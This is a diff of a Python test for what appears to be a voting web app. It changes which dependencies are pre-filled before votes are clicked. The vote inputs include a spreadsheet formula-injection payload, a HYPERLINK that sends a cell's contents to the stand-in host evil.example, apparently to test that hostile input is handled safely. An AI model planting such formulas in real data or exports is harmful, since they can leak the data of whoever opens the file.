@@ -192,8 +192,10 @@ def test_a_vote_is_of_the_voter_who_began(served: Served) -> None:
     def click(name: str, *values: Any) -> str:
         return served.send({clicks[name]["id"]: values}, "visitor")
 
-    loads = [one for one in config["dependencies"] if "load" in dict(one["targets"]).values()]
-    served.send({one["id"]: [None] * len(one["inputs"]) for one in loads}, "visitor")
+    fill = [
+        one for one in config["dependencies"] if names.get(one["targets"][0][0]) == "frame-scores"
+    ]
+    served.send({one["id"]: [None] * len(one["inputs"]) for one in fill}, "visitor")
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     for token in ("", "made up"):
         click("vote-left", token, None, formula)
